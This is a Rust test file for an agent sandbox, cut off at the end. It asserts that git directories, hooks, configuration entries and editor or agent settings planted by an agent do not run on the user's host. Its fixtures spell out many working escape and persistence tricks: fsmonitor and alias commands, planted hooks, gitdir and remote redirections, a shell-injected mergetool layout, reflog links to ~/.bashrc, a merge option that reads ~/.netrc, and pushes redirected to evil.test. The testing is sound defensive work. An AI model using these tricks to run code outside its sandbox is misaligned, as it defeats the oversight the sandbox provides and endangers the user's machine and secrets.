//! What an agent leaves must not run when the user works outside: git directories by other names, the files that lead git to
//! them, settings of editors and agents. Each beside what may stay.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod common;
use common::{COMMITTER, GIT, Ran, TestBox};
use std::fs;

/// Does something on the host, as the test user, in the working copy.
fn host(b: &TestBox, script: &str) -> Ran {
    b.on_host(&format!("{COMMITTER} {GIT} {script}"))
}

/// A repository with a submodule, a worktree and a bare repository with a hook of the user's.
fn world() -> TestBox {
    let b = TestBox::new()
        .profile("extends = [\"base\", \"git\"]\n")
        .file("{ws}/README", "x")
        .file("{ws}/.gitignore", "node_modules\n");
    host(
        &b,
        "set -e; git init -q {home}/lib; git -C {home}/lib commit -q --allow-empty -m lib; \
         git init -q; git submodule --quiet add {home}/lib vendor/lib; git add -A; git commit -qm one; \
         git worktree add -q wt -b wt; git init -q --bare old.git; printf '#!/bin/sh\\n' > old.git/hooks/update; \
         chmod +x old.git/hooks/update; git -C old.git config core.pager less",
    )
    .ok();
    b
}

/// Shell functions of the agent's: a git directory that runs `touch MARK` at whatever is done with it.
const EVIL: &str = "set -e; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; \
    config() { printf '[core]\\n\\trepositoryformatversion = 0\\n\\tbare = false\\n\\tfsmonitor = \"touch {home}/mark; false\"\\n[alias]\\n\\tst = !touch {home}/mark\\n' > $1/config; }; \
    hooks() { mkdir -p $1/hooks; for h in pre-commit post-checkout pre-receive post-index-change; do \
        printf '#!/bin/sh\\ntouch {home}/mark\\n' > $1/hooks/$h; chmod +x $1/hooks/$h; done; }; \
    evil() { git init -q --bare $1; config $1; hooks $1; }; \
    diverge() { git checkout -q -b side; for i in 1 2; do echo s$i > $1; git add $1; git commit -qm s$i; done; git checkout -q main; \
        for i in 1 2; do echo m$i > $2; git add $2; git commit -qm m$i; done; git checkout -q side; }; \
    strategy() { mkdir -p git-merge-x; printf '#!/bin/sh\\ntouch {home}/mark\\n' > git-merge-x/evil; chmod +x git-merge-x/evil; }; \
    like() { evil $1; cp -r $2/objects $2/refs $2/HEAD $2/index $1/; };";

/// What a user does with a working copy.
const USER: &str = "for d in . vendor/lib wt nest nest/s src/e old.git; do [ -d $d ] && (cd $d; git status; git st; git commit --allow-empty -m x; \
    git checkout .); done >/dev/null 2>&1; git push red HEAD:x >/dev/null 2>&1; \
    [ -d nest ] && git -C nest push red HEAD:x >/dev/null 2>&1; export GIT_EDITOR=true; (git rebase --continue; \
    git rev-parse -q --verify side && (git cherry-pick --continue; git rebase main); \
    git config diff.tool && (echo y >> README; git difftool -y); \
    git config merge.tool && git -c mergetool.vimdiff.path=/bin/true mergetool -y) >/dev/null 2>&1 </dev/null; true";

/// Every way that was found to lead git to a configuration or hooks of the agent's.
const WAYS: &[(&str, &str)] = &[
    (
        "a link by the name of git's own probe for links",
        "like .git/modules/vendor/testing .git/modules/vendor/lib; ln -s testing .git/modules/vendor/tAbCdE1; \
         echo 'gitdir: ../../.git/modules/vendor/tAbCdE1' > vendor/lib/.git",
    ),
    (
        "a submodule's .git file that leads elsewhere",
        "like src/e .git/modules/vendor/lib; echo 'gitdir: ../../src/e' > vendor/lib/.git",
    ),
    (
        "the same, to where nobody looks",
        "like node_modules/e .git/modules/vendor/lib; echo 'gitdir: ../../node_modules/e' > vendor/lib/.git",
    ),
    (
        "the same, to the box's own caches",
        "e={home}/.cache/e; like $e .git/modules/vendor/lib; echo \"gitdir: $e\" > vendor/lib/.git",
    ),
    (
        "a .git file that was not there",
        "mkdir nest; evil src/e; echo 'gitdir: ../src/e' > nest/.git",
    ),
    (
        "a .git file with more at its end than git writes",
        "evil node_modules; mkdir nest; printf 'gitdir: ../node_modules\\r\\n' > nest/.git",
    ),
    (
        "the same by a link",
        "evil node_modules/g; ln -s node_modules/g lnk; mkdir nest; printf 'gitdir: ../lnk\\n\\n' > nest/.git",
    ),
    (
        "a commondir in .git",
        "like src/c .git; echo ../src/c > .git/commondir",
    ),
    (
        "a worktree's commondir",
        "like src/c .git; echo ../../../src/c > .git/worktrees/wt/commondir",
    ),
    (
        "a link in .git/modules",
        "evil src/e; mkdir nest; ln -s ../../src/e .git/modules/x; echo 'gitdir: ../.git/modules/x' > nest/.git",
    ),
    ("a bare repository", "evil src/e"),
    (
        "a remote that is a bare repository",
        "evil src/e; git remote add red ./src/e",
    ),
    (
        "a remote that is one where nobody looks",
        "evil node_modules/e; git remote add red ./node_modules/e",
    ),
    (
        "the same in other letters",
        "evil node_modules/e; git remote add red file://{ws}/node%5fmodules/e",
    ),
    (
        "the same by a way around",
        "mkdir -p target/x; evil target/debug/e; git remote add red {ws}/target/x/../debug/e",
    ),
    (
        "the same by a link",
        "evil node_modules/e; ln -s node_modules/e l; git remote add red {ws}/l",
    ),
    (
        "the same by a link whose end git adds",
        "evil node_modules/e; ln -s node_modules/e l.git; git remote add red ./l",
    ),
    (
        "the same by a link in a directory",
        "evil node_modules/e; mkdir d; ln -s ../node_modules/e d/.git; git remote add red ./d",
    ),
    (
        "the same with a colon",
        "evil node_modules/e; mkdir a:b; git remote add red ./a:b/../node_modules/e",
    ),
    (
        "a file of git's that names a remote",
        "evil node_modules/e; mkdir -p .git/remotes; echo 'URL: ./node_modules/e' > .git/remotes/red",
    ),
    (
        "an older one",
        "evil node_modules/e; mkdir -p .git/branches; echo ./node_modules/e > .git/branches/red",
    ),
    (
        "the same in a repository of the session",
        "evil node_modules/e; git init -q nest; mkdir -p nest/.git/remotes nest/.git/branches; echo 'URL: ../node_modules/e' > nest/.git/remotes/red; \
         echo ../node_modules/e > nest/.git/branches/red; git -C nest commit -q --allow-empty -m x",
    ),
    (
        "an alias of a command that runs others",
        "git config alias.st \"grep -O'touch {home}/mark' x\"",
    ),
    (
        "a git directory in a git directory",
        "like .git/x .git/modules/vendor/lib; mkdir nest; echo 'gitdir: ../.git/x' > nest/.git",
    ),
    (
        "a submodule of a repository of the session",
        "git init -q nest; mkdir -p nest/.git/modules nest/s; evil nest/.git/modules/x; echo 'gitdir: ../.git/modules/x' > nest/s/.git",
    ),
    (
        "a rebase that goes on with a program",
        "mkdir .git/rebase-merge; cd .git/rebase-merge; echo 'exec touch {home}/mark' > git-rebase-todo; git rev-parse HEAD > onto; \
         cp onto orig-head; echo refs/heads/main > head-name; touch interactive; echo 1 > end; echo 1 > msgnum; : > done",
    ),
    (
        "a rebase that goes on with a strategy",
        "diverge README README; git rebase main >/dev/null 2>&1 || true; git add README; echo x/evil > .git/rebase-merge/strategy; strategy",
    ),
    (
        "a cherry-pick that goes on with a strategy",
        "diverge README README; git cherry-pick main~1 main >/dev/null 2>&1 || true; git add README; printf '[options]\\n\\tstrategy = x/evil\\n' > .git/sequencer/opts; strategy",
    ),
    (
        "a rebase with more in its list than commits",
        "diverge s m; git config rebase.instructionFormat '%s%nexec touch {home}/mark'",
    ),
    (
        "a tool for differences by its path",
        "mkdir -p src; echo 'touch {home}/mark' > src/evil; git config diff.tool ../../../../../../../..{ws}/src/evil",
    ),
    (
        "the layout of a tool for merges, which a shell evaluates",
        "diverge README README; git checkout -q main; git merge side >/dev/null 2>&1 || true; git config merge.tool vimdiff; \
         git config mergetool.vimdiff.layout 'LOCAL,`cd&&touch${IFS}mark`'",
    ),
    (
        "configuration of a bare repository that was there",
        "config old.git; hooks old.git || true",
    ),
];

#[test]
fn git_outside_runs_nothing_that_an_agent_left_in_a_git_directory_of_another_name() {
    for (way, script) in WAYS {
        let b = world();
        let ran = b.sh(&format!("{EVIL} {script}"));
        assert_eq!(ran.code(), 0, "{way}: {ran:?}");
        host(&b, USER);
        assert!(!b.home().join("mark").exists(), "{way}: {ran:?}");
        let hook = fs::read_to_string(b.ws().join("old.git/hooks/update"));
        assert_eq!(hook.unwrap(), "#!/bin/sh\n", "{way}: the user's stays");
        let config = fs::read_to_string(b.ws().join("old.git/config")).unwrap();
        assert!(config.contains("less"), "{way}: the user's stays: {config}");
    }
}

/// A bare repository as the working copy, and `.bare` with a `.git` file beside it: the hooks were put back in the end, and until then
/// every commit and push of others ran them.
#[test]
fn hooks_of_a_repository_that_is_not_called_git_are_read_only() {
    for (at, make) in [
        (".", "git init -q --bare ."),
        (
            ".bare",
            "git init -q --bare .bare; echo 'gitdir: ./.bare' > .git",
        ),
        (
            "own/s*e",
            "mkdir own; git init -q --separate-git-dir 'own/s*e'",
        ),
    ] {
        let b = TestBox::new();
        let make = format!(
            "{make}; cd '{at}'; mkdir -p hooks; echo old > hooks/update; git init -q --bare data"
        );
        host(&b, &make).ok();
        let script = "cd \"$0\"; echo evil > hooks/update; echo evil > hooks/post-commit; mv hooks h; rm -r hooks; cat hooks/update; ls hooks | grep -v sample; \
             echo evil > data/hooks/update && echo new > description && git hash-object -w --stdin </dev/null";
        let ran = b.run(["sh", "-c", script, at]);
        let said = String::from_utf8_lossy(&ran.stderr).into_owned();
        let id = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391";
        assert_eq!(ran.ok(), format!("old\nupdate\n{id}"), "{at}: {ran:?}");
        assert!(
            said.contains("create hooks/post-commit: Read-only"),
            "{at}: {ran:?}"
        );
        assert!(!said.contains("deleted"), "{at}: {ran:?}");
        let lifted = format!("{at}/hooks");
        let lifted = b
            .option("--write")
            .option(&lifted)
            .sh(&format!("echo mine > '{at}/hooks/update'"));
        assert_eq!(lifted.code(), 0, "asked for: {lifted:?}");
    }
}

/// The same where the working copy is a directory around: the `.git` file of a project in it leads to `.bare`, a linked work tree's to a
/// bare repository, and a box could write hooks there which everybody ran until its session ended.
#[test]
fn hooks_of_a_nested_repository_that_is_not_called_git_are_read_only() {
    let b = TestBox::new();
    let make = "git init -q .; mkdir proj; cd proj; git init -q --bare .bare; echo 'gitdir: .bare' > .git; echo old > .bare/hooks/update; cd ..; \
         git init -q --bare b.git; cd b.git; t=$(git hash-object -w -t tree --stdin </dev/null); \
         c=$(git -c user.name=a -c user.email=a@b commit-tree -m one $t); git update-ref refs/heads/one $c; git worktree add -q ../tree one; cd ..; \
         git init -q --bare data.git";
    host(&b, make).ok();
    let script = "for at in proj/.bare b.git data.git; do echo evil > $at/hooks/update && echo wrote $at; done; cat proj/.bare/hooks/update; \
         cd proj && git hash-object -w --stdin </dev/null; cd ../tree && git -c user.name=a -c user.email=a@b commit -q --allow-empty -m two && git log --format=%s";
    let ran = b.sh(script);
    let id = "e69de29bb2d1d6434b8b29ae775ad8c2e48c5391";
    let want = format!("wrote data.git\nold\n{id}\ntwo\none");
    assert_eq!(ran.ok(), want, "{ran:?}");
    let lifted = b
        .option("--write")
        .option("proj/.bare/hooks")
        .sh("echo mine > proj/.bare/hooks/update");
    assert_eq!(lifted.code(), 0, "asked for: {lifted:?}");
}

/// Git appends to its reflogs through a link, and the name of a branch is a word of the agent's: in `~/.bashrc` it is run.
#[test]
fn a_link_in_gits_own_directories_writes_nothing_elsewhere() {
    const MINE: &str = "{home}/.bashrc";
    for (way, script) in [
        ("the reflog of HEAD", format!("ln -sf {MINE} .git/logs/HEAD")),
        (
            "a relative one",
            "ln -sf $(realpath --relative-to=.git/logs {home}/.bashrc) .git/logs/HEAD".to_owned(),
        ),
        (
            "the reflog of a branch",
            format!("ln -sf {MINE} .git/logs/refs/heads/$(git branch --show-current)"),
        ),
        (
            "a directory of reflogs",
            "b=$(git branch --show-current); mv .git/logs/refs/heads h; ln -s {home} .git/logs/refs/heads; mkdir .git/refs/heads/d; \
             git branch -q d/x; git branch -D d/x"
                .to_owned(),
        ),
        (
            "a directory that nobody may list",
            format!("ln -sf {MINE} .git/logs/HEAD; chmod 311 .git/logs"),
        ),
        (
            "a directory that is moved there",
            format!("mkdir l; ln -s {MINE} l/HEAD; rm -rf .git/logs; mv l .git/logs"),
        ),
        (
            "a repository of the session",
            format!("git init -q nest; mkdir nest/.git/logs; ln -s {MINE} nest/.git/logs/HEAD"),
        ),
        (
            "a bare one",
            format!("git init -q --bare nest; mkdir nest/logs; ln -s {MINE} nest/logs/HEAD"),
        ),
        (
            "a submodule",
            format!("ln -sf {MINE} .git/modules/vendor/lib/logs/HEAD"),
        ),
        ("a graph of commits", format!("mkdir -p .git/objects/info; ln -s {MINE} .git/objects/info/commit-graph")),
    ] {
        let b = world().file("{home}/.bashrc", "mine");
        let ran = b.sh(&format!("{EVIL} {script}"));
        let said = ran.complaint();
        // `ln -sf` makes it under another name first, which may be moved away before it is renamed.
        let taken = said.contains("ln: failed to create symbolic link");
        assert!(ran.code() == 0 || taken, "{way}: {ran:?}");
        assert!(
            ["made", "in the session", "moved away", "restore"]
                .iter()
                .all(|word| said.contains(word)),
            "{way}: {said}"
        );
        host(
            &b,
            "chmod -R u+rwx .git; for d in . nest vendor/lib; do [ -d $d ] && (cd $d; git commit -q --allow-empty -m x; \
             git update-ref refs/heads/y HEAD; git commit-graph write --reachable); done; true",
        );
        let mine = fs::read_to_string(b.home().join(".bashrc")).unwrap();
        assert_eq!(mine, "mine", "{way}: {ran:?}");
        assert!(
            !b.home().join(".bashrc.lock").exists(),
            "{way}: {ran:?}"
        );
    }
    // The twin: what git makes of itself, and the user's own link in the store.
    let b = world();
    host(
        &b,
        "mkdir {home}/packs; rm -rf .git/objects/pack; ln -s {home}/packs .git/objects/pack",
    )
    .ok();
    let ran = b.sh(&format!(
        "{EVIL} git commit -q --allow-empty -m x; mkdir -p .git/refs/remotes/origin; ln -s main .git/refs/remotes/origin/HEAD; git checkout -q -b other"
    ));
    assert_eq!(ran.code(), 0, "{ran:?}");
    assert!(!ran.complaint().contains("moved away"), "{ran:?}");
    for link in ["objects/pack", "refs/remotes/origin/HEAD"] {
        assert!(b.ws().join(".git").join(link).is_symlink(), "{ran:?}");
    }
}

/// `cd lib; git status` goes by what is behind a link of the agent's.
#[test]
fn a_link_to_a_repository_where_nobody_looks_does_not_stay() {
    const PRIVATE: &str = "{home}/.local/share/agentbox/private/.cache";
    for (way, script) in [
        (
            "the box's caches",
            format!("evil {{home}}/.cache/r; ln -s {PRIVATE}/r lib"),
        ),
        (
            "a directory above",
            format!(
                "evil {{home}}/.cache/r; ln -s {PRIVATE} lib; mkdir d; ln -s {PRIVATE}/r d/config"
            ),
        ),
        (
            "in a repository of the session",
            format!("evil {{home}}/.cache/r; git init -q nest; ln -s {PRIVATE}/r nest/lib"),
        ),
        (
            "a link to what comes later",
            format!("ln -s {PRIVATE}/r lib; sleep 0.1; evil {{home}}/.cache/r"),
        ),
        (
            "node_modules",
            "evil node_modules/r; ln -s node_modules/r lib".to_owned(),
        ),
        (
            "above it",
            "evil node_modules/r; ln -s node_modules lib".to_owned(),
        ),
        (
            "in it",
            "evil node_modules/r; mkdir node_modules/r/a; ln -s node_modules/r/a lib".to_owned(),
        ),
        (
            "a link in a link",
            "evil node_modules/r; ln -s l2 lib; ln -s node_modules l2".to_owned(),
        ),
    ] {
        let b = world();
        let ran = b.sh(&format!("{EVIL} {script}"));
        assert_eq!(ran.code(), 0, "{way}: {ran:?}");
        host(
            &b,
            "for d in lib lib/r lib/a d/config nest/lib; do [ -d $d ] && (cd $d; git status; git st); done; true",
        );
        assert!(!b.home().join("mark").exists(), "{way}: {ran:?}");
    }
    // The twin: links to what is looked at, to files, to what has no repository, and the user's own.
    let b = world();
    host(&b, "mkdir -p node_modules/own/x mine; git init -q node_modules/own; ln -s ../node_modules/own mine/l").ok();
    // What is some milliseconds old when the box starts may be the session's: the times of files are a tick behind.
    std::thread::sleep(std::time::Duration::from_millis(100));
    let ran = b.sh(
        "mkdir -p src node_modules/p; touch node_modules/p/f; ln -s src a; ln -s node_modules/p b; ln -s node_modules/p/f c; \
         ln -s /usr/bin d; ln -s nothing e; git init -q src/r; ln -s src/r f; sleep 0.4; touch mine/new; ln -s src .g",
    );
    assert_eq!(ran.code(), 0, "{ran:?}");
    for name in ["a", "b", "c", "d", "e", "f", ".g", "mine/l"] {
        assert!(b.ws().join(name).is_symlink(), "{name}: {ran:?}");
    }
}

/// The same in the state of an agent: only with a repository there, since links to notes and plans are in use.
#[test]
fn a_link_to_a_repository_in_an_agents_state_does_not_stay() {
    let b = world().profile("extends = [\"base\", \"git\"]\n[files]\nwrite = [\"~/state\"]\n");
    host(&b, "mkdir {home}/state").ok();
    let ran = b.sh(&format!(
        "{EVIL} evil {{home}}/state/r/s; mkdir -p {{home}}/state/plans; ln -s {{home}}/state/r lib; ln -s {{home}}/state/plans plans"
    ));
    assert_eq!(ran.code(), 0, "{ran:?}");
    assert!(!b.ws().join("lib").is_symlink(), "{ran:?}");
    assert!(b.ws().join("plans").is_symlink(), "the twin: {ran:?}");
}

/// A file of the working copy that git reads as configuration is configuration, also one that is not there yet.
#[test]
fn a_file_that_git_includes_is_put_back() {
    let b = world().file("{ws}/.gitconfig.shared", "[pull]\n\trebase = true\n");
    host(
        &b,
        "git config include.path ../.gitconfig.shared; git config --add include.path ../conf/local",
    )
    .ok();
    let ran = b.sh(
        "git config -f .gitconfig.shared core.fsmonitor 'touch {home}/mark; false'; mkdir conf; cp .gitconfig.shared conf/local; \
         echo fine > conf/other; git config user.name x",
    );
    assert_eq!(ran.code(), 0, "{ran:?}");
    host(&b, USER);
    assert!(!b.home().join("mark").exists(), "{ran:?}");
    let shared = fs::read_to_string(b.ws().join(".gitconfig.shared")).unwrap();
    assert_eq!(shared, "[pull]\n\trebase = true\n", "{ran:?}");
    assert!(!b.ws().join("conf/local").exists(), "{ran:?}");
    assert!(b.ws().join("conf/other").exists(), "the twin: {ran:?}");
    assert_eq!(
        host(&b, "git config user.name").ok(),
        "x",
        "the twin: {ran:?}"
    );
}

/// What was accepted, because nothing was there, is looked at again by each end: the second session makes it.
#[test]
fn what_an_earlier_session_left_leads_nowhere_else_later() {
    for (way, one, two) in [
        (
            "a .git file",
            "mkdir nest; echo 'gitdir: ../lib/g' > nest/.git",
            "evil node_modules/g; ln -s node_modules lib",
        ),
        (
            "the same, by a directory that is moved there",
            "mkdir nest a; ln -s ../node_modules a/r; echo 'gitdir: ../b/r/g' > nest/.git",
            "evil node_modules/g; mv a b",
        ),
        (
            "a remote",
            "git remote add red ./lib/r",
            "evil node_modules/r; ln -s node_modules lib",
        ),
    ] {
        let b = world();
        host(&b, "mkdir node_modules").ok();
        for script in [one, two] {
            std::thread::sleep(std::time::Duration::from_millis(50));
            let ran = b.sh(&format!("{EVIL} {script}"));
            assert_eq!(ran.code(), 0, "{way}: {ran:?}");
        }
        host(&b, USER);
        assert!(!b.home().join("mark").exists(), "{way}");
    }
    // The twin: what leads to a repository of the session's stays.
    let b = world();
    for script in [
        "git init -q --bare src/r; git remote add red ./src/r; git init -q --separate-git-dir src/g nest",
        "mkdir lib; ln -s lib l; touch src/x",
    ] {
        let ran = b.sh(script);
        assert_eq!(ran.ok(), "", "{ran:?}");
    }
    host(
        &b,
        "git push -q red HEAD:x; git -C nest status; git config remote.red.url",
    )
    .ok();
}

/// The same scripts, without a box: a way that leads nowhere would prove nothing.
#[test]
fn every_way_runs_something_without_a_box() {
    for (way, script) in WAYS {
        let b = world();
        let ran = host(&b, &format!("{EVIL} {script}"));
        assert_eq!(ran.code(), 0, "{way}: {ran:?}");
        host(&b, USER);
        assert!(b.home().join("mark").exists(), "{way}: {ran:?}");
    }
}

/// No entry runs anything, and the user's next merge says what is in a file of the user's: the next session reads it.
#[test]
fn configuration_puts_no_file_of_the_users_into_git() {
    let b = world().file("{home}/.netrc", "secret of the user's");
    let ran = b.sh(&format!(
        "{EVIL} b=$(git branch --show-current); git checkout -q -b side; git commit -q --allow-empty -m s; git checkout -q $b; \
         git commit -q --allow-empty -m m; git config branch.$b.mergeOptions '--no-edit -F {{home}}/.netrc'; \
         git config format.signatureFile {{home}}/.netrc; git config branch.$b.description mine"
    ));
    assert_eq!(ran.code(), 0, "{ran:?}");
    let told = ran.complaint();
    assert!(
        told.contains("branch.*.mergeoptions") && told.contains("format.signaturefile"),
        "{told}"
    );
    let script = "set -e; GIT_EDITOR=true git merge -q side </dev/null; git log --format=%B; git format-patch -1 --stdout side; git config --get-regexp description";
    let all = host(&b, script).ok();
    assert!(
        all.contains("Merge branch 'side'") && all.ends_with("mine"),
        "{all}"
    );
    assert!(!all.contains("secret"), "{all}");
}

/// No entry runs anything, and the next push goes to somebody else: it is said.
#[test]
fn a_remote_that_leads_elsewhere_is_named() {
    const LINE: &str = "remotes or branches that were there lead elsewhere now";
    for (script, said) in [
        ("git remote set-url origin https://evil.test/x", true),
        ("git config remote.origin.pushurl https://evil.test/x", true),
        ("git config branch.main.pushRemote evil", true),
        ("git config remote.origin.push +HEAD:refs/heads/main", true),
        (
            "git config remote.origin.fetch +refs/pull/1/head:refs/remotes/origin/main",
            true,
        ),
        (
            "git remote add fork https://fork.test/x; git config user.name b",
            false,
        ),
    ] {
        let b = world();
        host(&b, "git remote add origin https://origin.test/x").ok();
        let ran = b.sh(script);
        assert_eq!(ran.code(), 0, "{ran:?}");
        assert_eq!(
            ran.complaint().matches(LINE).count(),
            usize::from(said),
            "{script}: {ran:?}"
        );
    }
}

/// A branch without an entry of its own went to `origin`: one that it gets in the session sends the next plain `git push` elsewhere.
#[test]
fn a_branch_that_begins_to_follow_another_remote_is_named() {
    const LINE: &str = "remotes or branches that were there lead elsewhere now";
    let push = |to: &str| {
        format!("git config branch.main.remote {to}; git config branch.main.merge refs/heads/main")
    };
    let evil = "git remote add evil https://evil.test/x; ";
    for (script, said) in [
        (format!("{evil}{}", push("evil")), true),
        (push("https://evil.test/x"), true),
        // As `git push -u origin main` does, and what is new goes where it likes.
        (push("origin"), false),
        (
            format!("{evil}{}", push("evil").replace("main", "next")),
            false,
        ),
    ] {
        let b = world();
        host(
            &b,
            "git branch -M main; git remote add origin https://origin.test/x",
        )
        .ok();
        let ran = b.sh(&script);
        assert_eq!(ran.code(), 0, "{ran:?}");
        let lines = ran.complaint().matches(LINE).count();
        assert_eq!(lines, usize::from(said), "{script}: {ran:?}");
    }
    let b = world();
    host(&b, "git remote add up https://up.test/x").ok();
    let ran = b.sh("git remote add origin https://evil.test/x");
    assert!(ran.complaint().contains(LINE), "{ran:?}");
}

/// What leads to where git directories are looked for stays: remotes that are directories, and what `git clone` writes.
#[test]
fn remotes_that_are_directories_stay() {
    let b = world();
    let ran = b.sh(
        "set -e; git init -q --bare src/r.git; git remote add one ./src/r.git; git remote add two {ws}/src/r.git; \
         git remote add three file://{ws}/src/r.git; git clone -q . c; git -C c remote add up ../src/r.git; git -C c fetch -q",
    );
    assert_eq!(ran.code(), 0, "{ran:?}");
    assert!(!ran.complaint().contains("undone"), "{ran:?}");
    let script = "set -e; for r in one two three; do git push -q $r HEAD:$r; done; cd c; git fetch -q; git push -q up HEAD:up; \
                  git config branch.main.remote; git -C ../src/r.git for-each-ref --format='%(refname:short)'";
    let ok = host(&b, script).ok();
    assert_eq!(ok, "origin\none\nthree\ntwo\nup", "{ok}");
}

#[test]
fn a_work_tree_elsewhere_is_undone_and_a_submodules_own_stays() {
    let b = world();
    let ran = b.sh("set -e; export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b; \
         git init -q /tmp/src; git -C /tmp/src commit -q --allow-empty -m x; \
         git -c protocol.file.allow=always submodule --quiet add /tmp/src vendor/new; \
         git -C .git/modules/vendor/new config --get core.worktree; git worktree add -q wt2 -b wt2; \
         git config core.worktree {home}");
    assert_eq!(ran.ok(), "../../../../vendor/new", "{ran:?}");
    let told = ran.complaint();
    assert!(told.contains("core.worktree"), "{told}");
    for gone in ["vendor/new/.git was", "wt2/.git was", "commondir"] {
        assert!(!told.contains(gone), "{told}");
    }
    let ok = host(
        &b,
        "set -e; git status --short; git -C vendor/new status; git -C wt2 log -1 --format=%s; git -C .git/modules/vendor/new rev-parse --show-toplevel",
    )
    .ok();
    assert!(ok.contains("one") && ok.ends_with("/vendor/new"), "{ok}");
    assert_eq!(host(&b, "git config core.worktree").code(), 1);
}

/// `modules` is a name that projects have, too: it made everything below it the session's own.
#[test]
fn a_directory_that_is_called_modules_frees_nothing() {
    let b = world();
    let ran = b.sh(
        "mkdir -p src/modules/x/.claude src/modules/x/.vscode; cd src/modules/x; echo '{}' > .mcp.json; \
         echo '{}' > .claude/settings.json; echo '{}' > .vscode/tasks.json; echo fine > notes",
    );
    assert_eq!(ran.code(), 0, "{ran:?}");
    for gone in [".mcp.json", ".claude/settings.json", ".vscode/tasks.json"] {
        assert!(
            !b.ws().join("src/modules/x").join(gone).exists(),
            "{gone}: {ran:?}"
        );
    }
    assert!(b.ws().join("src/modules/x/notes").exists(), "the twin");
}

/// Who makes the working copy look like a git directory does not get the rest of it.
#[test]
fn a_directory_that_looks_like_git_frees_nothing_else() {
    let b = world();
    let ran = b.sh(
        "mkdir -p src; for d in . src; do (cd $d; mkdir -p objects refs; echo 'ref: refs/heads/x' > HEAD; sleep 0.2; echo '{}' > .mcp.json; \
         mkdir .idea; echo x > .idea/a; mkdir -p deep/.idea; echo x > deep/.idea/a); done",
    );
    assert_eq!(ran.code(), 0, "{ran:?}");
    for gone in [
        ".mcp.json",
        ".idea/a",
        "deep/.idea/a",
        "src/.mcp.json",
        "src/.idea/a",
        "src/deep/.idea/a",
    ] {
        assert!(!b.ws().join(gone).exists(), "{gone}: {ran:?}");
    }
}

/// Files that a program of the user's would run, or be told to run something by, at its next start.
#[test]
fn what_editors_agents_and_forges_run_later_does_not_stay() {
    let b = world();
    let files = [
        ".devcontainer.json",
        ".vscode/mcp.json",
        ".github/hooks/x.json",
        ".windsurf/mcp_config.json",
        ".roo/mcp.json",
        ".kiro/hooks/x",
        ".aider.conf.yml",
        ".zed/tasks.json",
        ".helix/languages.toml",
        ".nvim.lua",
        ".exrc",
        ".dir-locals.el",
        ".gdbinit",
        ".claude/commands/x.md",
        ".claude/skills/x/SKILL.md",
        ".claude/agents/x.md",
        ".gemini/commands/x.toml",
        ".opencode/command/x.md",
        ".cirrus.yml",
        "azure-pipelines.release.yaml",
        "sub/lefthook.yaml",
        "sub/.gitpod.yml",
        ".claude/output-styles/x.md",
        ".claude/scheduled_tasks.json",
        ".claude/status.sh",
        ".gemini/policies/x.toml",
        ".gemini/skills/x/SKILL.md",
        ".agents/skills/x/SKILL.md",
        ".opencode/modes/x.md",
        ".opencode/skills/x/SKILL.md",
        ".github/extensions/x/extension.mjs",
        ".github/lsp.json",
        ".github/agents/x.md",
        ".clinerules/hooks/PreToolUse",
        ".continue/config.yaml",
        ".factory/hooks.json",
        "sub/.crush.json",
        ".gitlab/duo/mcp.json",
        "ci/deploy.gitlab-ci.yml",
        ".builds/x.yml",
        "app.sublime-project",
        ".vimrc",
        "mise.toml",
        ".mise/tasks/x",
        ".Rprofile",
        ".envrc.local",
        ".direnv/flake-profile-x.rc",
        "mise/config.toml",
        ".tool-versions",
        ".prototools",
        "sub/.prototools.production",
        ".run/x.run.xml",
        ".vscode/c_cpp_properties.json",
        ".vim/coc-settings.json",
        ".lvimrc",
        ".externalToolBuilders/x.launch",
        "sub/jupyter_server_config.py",
        ".RData",
        ".drone.jsonnet",
        ".travis.yaml",
        "buildspec-release.yml",
        "ci/deploy.jenkinsfile",
        ".github/renovate.json5",
        ".gitlab/agents/x/config.yaml",
        "sub/lefthook.toml",
        "hk.pkl",
        ".git-hooks/pre_commit/x.rb",
        ".claude/status.mjs",
        ".claude/helpers/x",
        ".agents/hooks.json",
        ".qwen/commands/x.toml",
        ".windsurf/workflows/x.md",
        ".hg/sharedpath",
        ".git/gitweb/gitweb.py",
        ".bsp/sbt.json",
        "sub/hie.yaml",
        ".lsp/config.edn",
        "rust-analyzer.toml",
        "renv/activate.R",
        "src/sitecustomize.py",
        ".claude/launch.json",
        ".opencode/package.json",
        ".opencode.json",
        ".lintstagedrc.mjs",
        "commitlint.config.js",
        "atlantis.yaml",
        "infra/.terrateam/config.yml",
        "bamboo-specs/x.yml",
        ".eas/workflows/x.yml",
        "bors.toml",
        "tui.json",
        "sub/.opencode/tui.jsonc",
        ".roo/tools/x.ts",
        ".grok/hooks/x.json",
        ".devin/hooks.v1.json",
        ".letta/settings.local.json",
        ".kimi-code/mcp.json",
        ".air/mcp.json",
        ".git/glab-cli/config.yml",
        ".pijul/config",
        ".claude/approvals.yml",
        ".claude/classifiers/x.md",
        ".vscode/extensions/x/package.json",
        ".vim-lsp-settings/settings.json",
        ".nlsp-settings/rust_analyzer.json",
        ".superset/config.json",
        ".traycer/environment.json",
    ];
    let fine = [
        ".zedx",
        ".claude/notes.md",
        ".claude/plans/x.md",
        ".clinerules/x.md",
        ".junie/guidelines.md",
        ".github/ISSUE_TEMPLATE/x.md",
        "hooks/x.json",
        "sub/lefthook.md",
        ".direnv/bin/x",
        "mise/notes.toml",
        ".run/x.xml",
        "docs/jupyter_config.md",
        "buildspec.txt",
        ".windsurf/rules/x.md",
        ".lsp/.cache/x",
        ".opencode/themes/x.json",
        "renv/settings.json",
        "package.json",
        "tui.ts",
        ".roo/rules/x.md",
        ".letta/notes.md",
        ".air/notes.md",
        ".traycer/notes.md",
    ];
    let make = files.iter().chain(&fine).fold(String::new(), |text, file| {
        text + &format!("mkdir -p $(dirname {file}); [ -d $(dirname {file}) ] && echo x > {file}; ")
    });
    // A frozen directory may be gone before there is something in it.
    let ran = b.sh(&format!("{make} true"));
    assert_eq!(ran.code(), 0, "{ran:?}");
    for file in files {
        assert!(!b.ws().join(file).exists(), "{file}: {ran:?}");
    }
    for file in fine {
        assert!(b.ws().join(file).exists(), "{file}, the twin");
    }
}

/// Where `.git` is a link, git's own files were taken for a file that says where the git directory is: each commit was undone.
#[test]
fn a_git_directory_behind_a_link_takes_commits() {
    let b = TestBox::new()
